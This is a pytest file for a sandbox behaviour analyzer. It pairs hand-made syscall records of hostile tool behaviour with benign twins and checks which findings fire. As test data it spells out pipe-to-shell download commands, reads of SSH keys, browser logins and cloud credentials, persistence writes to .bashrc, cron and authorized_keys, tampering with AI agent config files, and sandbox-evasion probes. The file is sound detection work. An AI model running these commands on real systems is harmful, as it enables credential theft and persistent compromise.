@@ -1,0 +1,503 @@
+"""Each behaviour on a record made by hand, beside a benign twin on which nothing of MEDIUM or above is found."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from behavior_sample import EACCES, EEXIST, ENOENT, ENTRY, EPERM, WORKSPACE, Record, installing, rules, started
+from recordings_sample import TOOL
+
+from harness.model.finding import EvidenceLevel, Severity
+from harness.model.recording import Origin
+from harness.model.result import AnalyzerStatus
+
+HOME = "/home/user"
+Story = Callable[[Record], Record]
+
+
+def planted(record: Record, path: str) -> Record:
+    """The gate puts a file there before the target begins."""
+    return record.write(path, by=Origin.GATE)
+
+
+CASES: dict[str, tuple[str, Story, dict[str, str]]] = {
+    # exec
+    "shell": (
+        "exec",
+        lambda r: r.spawn(20, "/usr/bin/dash", "sh", "-c", "id > /tmp/x"),
+        {"behavior.exec.shell": "MEDIUM"},
+    ),
+    "combined-flag": (
+        "exec",
+        lambda r: r.spawn(20, "/usr/bin/bash", "bash", "-lc", "id; ls"),
+        {"behavior.exec.shell": "MEDIUM"},
+    ),
+    "shell-for-one-program": (
+        "exec",
+        lambda r: (
+            r.spawn(20, "/usr/bin/dash", "/bin/sh", "-c", "npm config get registry 2>/dev/null")
+            .fork(21, pid=20)
+            .exec("/usr/bin/env", "env", "node", "npm", requested="/bin/npm", interpreter="/usr/bin/env", pid=21)
+            .exec("/opt/node/22/bin/node", "node", "npm", pid=21)
+        ),
+        {"behavior.exec.program": "LOW"},
+    ),
+    "inline-code": (
+        "exec",
+        lambda r: r.spawn(20, "/opt/node/22/bin/node", "node", "-e", "1"),
+        {"behavior.exec.inline-code": "MEDIUM"},
+    ),
+    "fetch-and-run": (
+        "exec",
+        lambda r: r.spawn(20, "/usr/bin/dash", "sh", "-c", "curl -s http://x.example/a | bash"),
+        {"behavior.exec.fetch-and-run": "HIGH"},
+    ),
+    "decoded": (
+        "exec",
+        lambda r: r.spawn(20, "/usr/bin/bash", "bash", "-c", "echo aWQ= | base64 -d | sh"),
+        {"behavior.exec.fetch-and-run": "HIGH"},
+    ),
+    "network-tool": (
+        "exec",
+        lambda r: r.spawn(20, "/usr/bin/curl", "curl", "http://x.example"),
+        {"behavior.exec.network-tool": "MEDIUM"},
+    ),
+    "missing-network-tool": (
+        "exec",
+        lambda r: r.fork(20).call("execve", path="/usr/bin/curl", result=ENOENT, pid=20).exit(1, pid=20),
+        {"behavior.exec.network-tool": "MEDIUM"},
+    ),
+    "self-made": (
+        "exec",
+        lambda r: r.write("/tmp/helper").spawn(20, "/tmp/helper", "/tmp/helper"),
+        {"behavior.exec.self-made": "HIGH", "behavior.exec.program": "LOW"},
+    ),
+    "self-made-script": (
+        "exec",
+        lambda r: (
+            r.write("/tmp/helper")
+            .fork(20)
+            .exec("/usr/bin/dash", "/bin/sh", "/tmp/helper", requested="/tmp/helper", interpreter="/bin/sh", pid=20)
+        ),
+        {"behavior.exec.self-made": "HIGH", "behavior.exec.program": "LOW"},
+    ),
+    "self-made-argument": (
+        "exec",
+        lambda r: r.write(f"{WORKSPACE}/x.py").spawn(20, "/usr/bin/python3.13", "python3", "x.py"),
+        {"behavior.exec.self-made": "HIGH", "behavior.exec.program": "LOW"},
+    ),
+    "from-memory": (
+        "exec",
+        lambda r: r.fork(20).exec("/memfd:x", "x", pid=20, notes=("detached",)),
+        {"behavior.exec.nameless": "HIGH", "behavior.exec.program": "LOW"},
+    ),
+    # files
+    "key": ("files", lambda r: r.open(f"{HOME}/.ssh/id_ed25519"), {"behavior.files.secret-read": "HIGH"}),
+    "key-missing": (
+        "files",
+        lambda r: r.open(f"{HOME}/.ssh/id_ed25519", result=ENOENT),
+        {"behavior.files.secret-read": "MEDIUM"},
+    ),
+    "key-linked": (
+        "files",
+        lambda r: r.call("link", path=f"{HOME}/.ssh/id_rsa", path2="/tmp/k"),
+        {"behavior.files.secret-read": "HIGH"},
+    ),
+    "browser": (
+        "files",
+        lambda r: r.open(f"{HOME}/.config/google-chrome/Default/Login Data"),
+        {"behavior.files.secret-read": "HIGH"},
+    ),
+    "cloud": ("files", lambda r: r.open(f"{HOME}/.aws/credentials"), {"behavior.files.account-read": "MEDIUM"}),
+    "agent-read": ("files", lambda r: r.open(f"{HOME}/.claude.json"), {"behavior.files.agent-config-read": "MEDIUM"}),
+    "agent-write": (
+        "files",
+        lambda r: r.write(f"{HOME}/.cursor/mcp.json"),
+        {"behavior.files.agent-config-write": "HIGH"},
+    ),
+    "orders": ("files", lambda r: r.write(f"{WORKSPACE}/CLAUDE.md"), {"behavior.files.agent-config-write": "HIGH"}),
+    "bashrc": ("files", lambda r: r.write(f"{HOME}/.bashrc"), {"behavior.files.persistence": "HIGH"}),
+    "renamed-over": (
+        "files",
+        lambda r: r.write("/tmp/x").call("rename", path="/tmp/x", path2=f"{HOME}/.zshrc"),
+        {"behavior.files.persistence": "HIGH"},
+    ),
+    "openat2": ("files", lambda r: r.transfer(f"{HOME}/.profile", 12), {"behavior.files.persistence": "HIGH"}),
+    "cron": ("files", lambda r: r.write("/etc/cron.d/x", result=EACCES), {"behavior.files.persistence": "HIGH"}),
+    "hook": (
+        "files",
+        lambda r: r.write(f"{WORKSPACE}/.git/hooks/post-checkout"),
+        {"behavior.files.persistence": "HIGH"},
+    ),
+    "authorized": (
+        "files",
+        lambda r: r.call("symlinkat", path="x", path2="authorized_keys", args=(0, -100, 0)).call(
+            "chmod", path=f"{HOME}/.ssh/authorized_keys"
+        ),
+        {"behavior.files.persistence": "HIGH"},
+    ),
+    "system": ("files", lambda r: r.write("/usr/bin/ls", result=EACCES), {"behavior.files.outside-write": "MEDIUM"}),
+    "given-deleted": (
+        "files",
+        lambda r: r.unlink(f"{WORKSPACE}/todo.txt"),
+        {"behavior.files.deleted": "HIGH"},
+    ),
+    "unknown-deleted": ("files", lambda r: r.unlink(f"{HOME}/thesis.doc"), {"behavior.files.deleted": "MEDIUM"}),
+    "other-environment": (
+        "files",
+        lambda r: r.open("/proc/33/environ"),
+        {"behavior.files.other-process": "MEDIUM"},
+    ),
+    # privilege
+    "unshare": (
+        "privilege",
+        lambda r: r.call("unshare", result=EPERM, denied=True, flags=("CLONE_NEWUSER",)),
+        {"behavior.privilege.namespaces": "MEDIUM"},
+    ),
+    "mount": ("privilege", lambda r: r.call("mount", result=EPERM), {"behavior.privilege.mounts": "MEDIUM"}),
+    "ptrace": (
+        "privilege",
+        lambda r: r.call("ptrace", result=EPERM, flags=("PTRACE_ATTACH",)),
+        {"behavior.privilege.processes": "HIGH"},
+    ),
+    "bpf": ("privilege", lambda r: r.call("bpf", result=EPERM), {"behavior.privilege.kernel": "HIGH"}),
+    "keyctl": ("privilege", lambda r: r.call("keyctl", result=EPERM), {"behavior.privilege.key-rings": "MEDIUM"}),
+    "vsock": (
+        "privilege",
+        lambda r: r.call("socket", result=EPERM, flags=("AF_VSOCK", "SOCK_STREAM")),
+        {"behavior.privilege.sockets": "MEDIUM"},
+    ),
+    "io_uring": (
+        "privilege",
+        lambda r: r.call("io_uring_setup", result=EPERM, denied=True),
+        {"behavior.privilege.io-uring": "LOW"},
+    ),
+    "setuid": (
+        "privilege",
+        lambda r: r.call("setuid", args=(0,), result=EPERM),
+        {"behavior.privilege.identity": "MEDIUM"},
+    ),
+    "32-bit": (
+        "privilege",
+        lambda r: r.call("getpid", result=EPERM, denied=True, notes=("compat32",)),
+        {"behavior.privilege.32-bit": "MEDIUM"},
+    ),
+    "32-bit-let-through": (
+        "privilege",
+        lambda r: r.call("open", notes=("compat32",)),
+        {"behavior.privilege.32-bit": "MEDIUM"},
+    ),
+    # evasion
+    "one-look": (
+        "evasion",
+        lambda r: r.call("newfstatat", path="/.dockerenv"),
+        {"behavior.evasion.telltale": "LOW"},
+    ),
+    "many-looks": (
+        "evasion",
+        lambda r: r.call("stat", path="/.dockerenv").open("/proc/1/cgroup").open("/sys/class/dmi/id/sys_vendor"),
+        {"behavior.evasion.telltale": "LOW", "behavior.evasion.telltales": "MEDIUM"},
+    ),
+    "look-and-end": (
+        "evasion",
+        lambda r: r.open("/proc/1/cgroup").exit(0),
+        {"behavior.evasion.telltale": "LOW", "behavior.evasion.ends-after-look": "MEDIUM"},
+    ),
+    "self-trace": (
+        "evasion",
+        lambda r: r.call("ptrace", flags=("PTRACE_TRACEME",), result=EPERM),
+        {"behavior.evasion.self-trace": "MEDIUM"},
+    ),
+    "sleep": (
+        "evasion",
+        lambda r: r.call("nanosleep", flags=("600 s",), result=None),
+        {"behavior.evasion.long-sleep": "LOW"},
+    ),
+    # network
+    "metadata": (
+        "network",
+        lambda r: r.connect("169.254.169.254:80"),
+        {"behavior.network.metadata": "MEDIUM"},
+    ),
+    "mapped-metadata": (
+        "network",
+        lambda r: r.connect("[::ffff:169.254.169.254]:80"),
+        {"behavior.network.metadata": "MEDIUM"},
+    ),
+    "docker-socket": (
+        "network",
+        lambda r: r.connect("unix:/var/run/docker.sock"),
+        {"behavior.network.control-socket": "HIGH"},
+    ),
+    "connect": ("network", lambda r: r.connect("93.184.215.14:443"), {"behavior.network.connect": "LOW"}),
+    "lookup": ("network", lambda r: r.connect("10.0.0.2:53"), {"behavior.network.lookup": "INFO"}),
+    "listens": (
+        "network",
+        lambda r: r.call("bind", addresses=("0.0.0.0:8000",), args=(3,)).call("listen", args=(3, 5)),
+        {"behavior.network.listens": "LOW"},
+    ),
+}
+
+#: The twins: nothing at all is found on these.
+BENIGN: dict[str, tuple[str, Story]] = {
+    "helpers-of-python": (
+        "exec",
+        lambda r: r.spawn(
+            20, "/usr/bin/python3.13", "/app/bin/python", "-c",
+            "from multiprocessing.resource_tracker import main;main(5)",
+        ),
+    ),
+    "version-of-git": ("exec", lambda r: r.spawn(20, "/usr/bin/git", "git", "version")),
+    "kind-of-libc": (
+        "exec",
+        lambda r: r.spawn(
+            20, "/usr/bin/dash", "/bin/sh", "-c", "getconf GNU_LIBC_VERSION 2>&1 || true; ldd --version 2>&1 || true"
+        ).fork(21, pid=20).exec("/usr/bin/getconf", "getconf", "GNU_LIBC_VERSION", pid=21, parent=20),
+    ),
+    "search-along-the-path": (
+        "exec",
+        lambda r: r.fork(20)
+        .call("execve", path="/app/bin/sh", result=ENOENT, pid=20)
+        .exec("/usr/bin/dash", "sh", "-c", "getconf GNU_LIBC_VERSION 2>&1 || true; ldd --version 2>&1 || true",
+              requested="/usr/bin/sh", pid=20),
+    ),
+    "the-entry-itself": ("exec", lambda r: r),
+    "known-hosts": ("files", lambda r: r.open(f"{HOME}/.ssh/known_hosts")),
+    "own-settings": ("files", lambda r: r.write(f"{HOME}/.config/clock/settings.json")),
+    "own-cache": ("files", lambda r: r.write(f"{HOME}/.cache/clock/x").unlink(f"{HOME}/.cache/clock/x")),
+    "bashrc-read": ("files", lambda r: r.open(f"{HOME}/.bashrc")),
+    "workspace": ("files", lambda r: r.write(f"{WORKSPACE}/notes.md").unlink(f"{WORKSPACE}/notes.md")),
+    "temporary": ("files", lambda r: r.write("/tmp/a").call("rename", path="/tmp/a", path2=f"{WORKSPACE}/b")),
+    "missing-given": ("files", lambda r: r.unlink(f"{WORKSPACE}/todo.txt", result=ENOENT)),
+    "folders-made-sure-of": ("files", lambda r: r.call("mkdir", path="/home", result=EEXIST)),
+    "compiled-modules": (
+        "files", lambda r: r.write("/usr/lib/python3/dist-packages/x/__pycache__/x.cpython-313.pyc.1", result=-30),
+    ),
+    "own-environment": ("files", lambda r: r.open(f"/proc/{ENTRY}/environ")),
+    "settings-of-git": (
+        "files",
+        lambda r: r.fork(20).exec("/usr/bin/git", "git", "log", pid=20).open(f"{WORKSPACE}/.git/config", pid=20),
+    ),
+    "devices": ("files", lambda r: r.write("/dev/null")),
+    "rings-of-node": (
+        "privilege",
+        lambda r: r.exec("/opt/node/22/bin/node", "node", "x.js").call("io_uring_setup", result=EPERM, denied=True),
+    ),
+    "own-user": ("privilege", lambda r: r.call("setuid", args=(65532,))),
+    "netlink": ("privilege", lambda r: r.call("socket", flags=("AF_NETLINK", "SOCK_RAW"))),
+    "threads": ("privilege", lambda r: r.call("clone3", result=-38)),
+    "the-container's-start": (
+        "privilege",
+        lambda r: r.call("mount", by=Origin.GATE).call("pivot_root", pid=40, parent=0),
+    ),
+    "own-limits": (
+        "evasion",
+        lambda r: r.open(f"/proc/{ENTRY}/cgroup").open("/sys/fs/cgroup/memory/memory.limit_in_bytes").exit(0),
+    ),
+    "short-sleep": ("evasion", lambda r: r.call("nanosleep", flags=("5 s",), result=None)),
+    "address-sorting": (
+        "network",
+        lambda r: r.call("socket", flags=("AF_INET", "SOCK_DGRAM"), result=3).connect("93.184.215.14:443"),
+    ),
+    "own-pair": ("network", lambda r: r.call("socketpair", flags=("AF_UNIX",)).connect("unix:@abc")),
+    "own-port": (
+        "network",
+        lambda r: r.call("bind", addresses=("127.0.0.1:8000",), args=(3,)).call("listen", args=(3, 5)),
+    ),
+}  # fmt: skip
+
+
+def tell(story: Story) -> Record:
+    record = Record()
+    planted(record, f"{WORKSPACE}/todo.txt")
+    return story(record.begin())
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_a_behaviour_is_found_and_called_by_its_name(name: str) -> None:
+    analyzer, story, expected = CASES[name]
+    result = tell(story).end().judge(f"behavior.{analyzer}")
+    assert rules(result) == expected
+    assert result.status is AnalyzerStatus.COMPLETED
+    for finding in result.findings:
+        assert finding.evidence
+        assert all(piece.seq for piece in finding.evidence)
+        heuristic = analyzer == "evasion"
+        assert finding.evidence_level is (EvidenceLevel.HEURISTIC if heuristic else EvidenceLevel.DYNAMIC)
+
+
+@pytest.mark.parametrize("name", BENIGN)
+def test_the_twin_stays_silent(name: str) -> None:
+    analyzer, story = BENIGN[name]
+    result = tell(story).end().judge(f"behavior.{analyzer}")
+    assert rules(result) == {}
+    assert result.status is AnalyzerStatus.COMPLETED
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_the_identity_of_a_finding_knows_neither_numbers_nor_phases(name: str) -> None:
+    analyzer, story, _ = CASES[name]
+
+    def ids(record: Record) -> list[str]:
+        return [finding.id for finding in record.end().judge(f"behavior.{analyzer}").findings]
+
+    later = Record()
+    planted(later, f"{WORKSPACE}/todo.txt")
+    later.begin().open("/x").enter("discover")
+    assert ids(tell(story)) == ids(story(later))
+
+
+INSTALLS: dict[str, tuple[Story, dict[str, str]]] = {
+    "connects": (lambda r: r.connect("93.184.215.14:443", pid=20), {"behavior.install.connects": "MEDIUM"}),
+    "fetches": (
+        lambda r: r.fork(21, pid=20).exec("/usr/bin/curl", "curl", "http://x.example", pid=21, parent=20),
+        {"behavior.install.network-tool": "HIGH"},
+    ),
+    "hidden": (
+        lambda r: r.fork(21, pid=20).exec("/usr/bin/dash", "sh", "-c", "wget -qO- http://x|sh", pid=21, parent=20),
+        {"behavior.install.hidden-command": "HIGH"},
+    ),
+    "key": (lambda r: r.open(f"{HOME}/.ssh/id_rsa", result=ENOENT, pid=20), {"behavior.install.secret-read": "HIGH"}),
+    "bashrc": (lambda r: r.write(f"{HOME}/.bashrc", pid=20), {"behavior.install.persistence": "HIGH"}),
+    "system": (
+        lambda r: r.write("/usr/local/bin/x", result=EACCES, pid=20),
+        {"behavior.install.outside-write": "MEDIUM"},
+    ),
+    "script": (
+        lambda r: r.fork(21, pid=20).exec("/usr/bin/dash", "sh", "-c", "node build.js", pid=21, parent=20),
+        {"behavior.install.scripts": "INFO"},
+    ),
+    "own": (lambda r: r.write("/app/lib/x", pid=20).write("/tmp/y", pid=20).write(f"{HOME}/.npm/z", pid=20), {}),
+    "settings": (lambda r: r.open(f"{HOME}/.npmrc", result=ENOENT, pid=20), {}),
+    "hooks-of-itself": (lambda r: r.write("/app/node_modules/x/.git/hooks/y", pid=20), {}),
+}
+
+
+@pytest.mark.parametrize("name", INSTALLS)
+def test_an_installation_that_does_more_than_install_is_found(name: str) -> None:
+    story, expected = INSTALLS[name]
+    record = installing().spawn(20, "/opt/node/22/bin/node", "node", "npm", "ci")
+    result = story(record).end().judge("behavior.install")
+    assert rules(result) == expected
+    assert result.status is AnalyzerStatus.COMPLETED
+    assert all(finding.location.phase == "install" for finding in result.findings)
+
+
+def test_an_installation_is_judged_by_its_own_analyzer_only() -> None:
+    record = installing().write(f"{HOME}/.bashrc").end()
+    record.session = "main"
+    record.begin().end()
+    assert rules(record.judge("behavior.files")) == {}
+
+
+def test_an_installation_that_was_not_recorded_is_a_gap() -> None:
+    record = started().step("npm", "ci").end()
+    assert record.judge("behavior.install").status is AnalyzerStatus.PARTIAL
+    assert record.judge("behavior.files").status is AnalyzerStatus.COMPLETED
+
+
+def test_where_nothing_was_installed_nothing_is_missing() -> None:
+    result = started().end().judge("behavior.install")
+    assert (result.status, result.findings) == (AnalyzerStatus.COMPLETED, ())
+
+
+def test_a_call_starts_programs_by_design_and_that_is_told_as_a_fact() -> None:
+    record = started().enter("call:run:aaaa1111").spawn(20, "/usr/bin/dash", "sh", "-c", "ls")
+    result = record.end().judge("behavior.exec")
+    assert rules(result) == {"behavior.exec.in-call": "INFO"}
+    assert result.findings[0].location.tool == "run"
+
+
+def test_an_argument_in_a_shells_text_is_found() -> None:
+    record = started().enter("call:grep:aaaa1111")
+    record.asked('{"method":"tools/call","params":{"name":"grep","arguments":{"q":["needle-77"],"n":3}}}')
+    record.spawn(20, "/usr/bin/dash", "sh", "-c", "grep needle-77 *").spawn(21, "/usr/bin/grep", "grep", "needle-77")
+    result = record.end().judge("behavior.exec")
+    assert rules(result)["behavior.exec.argument-in-shell"] == "MEDIUM"
+
+
+def test_a_tool_that_breaks_its_annotations_is_found() -> None:
+    hints = {"readOnlyHint": True, "openWorldHint": False}
+    tool = {**TOOL, "annotations": hints}
+    record = started().enter("call:now:aaaa1111").write(f"{WORKSPACE}/x").unlink(f"{WORKSPACE}/todo.txt")
+    result = record.connect("93.184.215.14:443").end().judge("behavior.annotations", tool)
+    assert rules(result) == {
+        "behavior.annotations.read-only": "MEDIUM",
+        "behavior.annotations.destructive": "HIGH",
+        "behavior.annotations.open-world": "MEDIUM",
+    }
+    assert {finding.location.tool for finding in result.findings} == {"now"}
+
+
+@pytest.mark.parametrize(
+    "hints",
+    [{}, {"readOnlyHint": False, "destructiveHint": True, "openWorldHint": True}, {"readOnlyHint": "yes"}],
+)
+def test_a_tool_without_such_annotations_may_do_so(hints: dict[str, object]) -> None:
+    tool = {**TOOL, "annotations": hints}
+    record = started().enter("call:now:aaaa1111").write(f"{WORKSPACE}/x").unlink(f"{WORKSPACE}/y")
+    assert rules(record.connect("93.184.215.14:443").end().judge("behavior.annotations", tool)) == {}
+
+
+def test_caches_temporary_files_and_what_it_made_itself_break_no_annotation() -> None:
+    tool = {**TOOL, "annotations": {"readOnlyHint": True, "openWorldHint": False}}
+    record = started().enter("call:now:aaaa1111").write("/tmp/x").write(f"{HOME}/.cache/x").unlink("/tmp/x")
+    assert rules(record.connect("127.0.0.1:9").end().judge("behavior.annotations", tool)) == {}
+    adds = {**TOOL, "annotations": {"destructiveHint": False}}
+    record = started().enter("call:now:aaaa1111").write(f"{WORKSPACE}/x").unlink(f"{WORKSPACE}/x")
+    assert rules(record.end().judge("behavior.annotations", adds)) == {}
+
+
+def test_a_flood_is_found_by_its_rate(monkeypatch: pytest.MonkeyPatch) -> None:
+    from harness.analyzers.behavior import flood
+
+    monkeypatch.setattr(flood, "CALLS_A_SECOND", 50)
+    record = started()
+    for second in range(4):
+        for number in range(60):
+            record.open("/tmp/x", result=ENOENT, t=(second + 1) * flood.SECOND + number)
+    assert rules(record.end().judge("behavior.flood")) == {"behavior.flood.calls": "HIGH"}
+    assert rules(record.end(lost={"bulk": 9}).judge("behavior.flood")) == {
+        "behavior.flood.calls": "HIGH",
+        "behavior.flood.lost": "HIGH",
+    }
+
+
+def test_a_busy_start_is_no_flood(monkeypatch: pytest.MonkeyPatch) -> None:
+    from harness.analyzers.behavior import flood
+
+    monkeypatch.setattr(flood, "CALLS_A_SECOND", 50)
+    record = started()
+    for number in range(200):
+        record.open("/usr/lib/x", t=flood.SECOND + number)
+    assert rules(record.end().judge("behavior.flood")) == {}
+
+
+def test_a_flood_of_processes_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
+    from harness.analyzers.behavior import flood
+
+    monkeypatch.setattr(flood, "PROCESSES_A_SESSION", 10)
+    record = started()
+    for child in range(20, 31):
+        record.fork(child)
+    assert rules(record.end().judge("behavior.flood")) == {"behavior.flood.processes": "HIGH"}
+
+
+def test_hostile_names_are_shown_harmlessly() -> None:
+    record = started().spawn(20, "/tmp/\x1b[2J\u202e", "\x1b[2J", "\u200b" * 500)
+    finding = record.end().judge("behavior.exec").findings[0]
+    shown = finding.model_dump_json()
+    assert "\\u001b" not in shown and "\u202e" not in shown and "\u200b" not in shown
+    assert all(len(piece.text) <= 201 for piece in finding.evidence)
+
+
+def test_every_kind_that_is_noted_is_declared() -> None:
+    from harness.analyzers import registry
+
+    for analyzer in registry.ANALYZERS:
+        if analyzer.name.startswith("behavior."):
+            assert analyzer.rules
+            assert all(rule.id.startswith(f"{analyzer.name}.") for rule in analyzer.rules)
+    severities = {severity for _, _, expected in CASES.values() for severity in expected.values()}
+    assert severities <= {severity.value for severity in Severity}
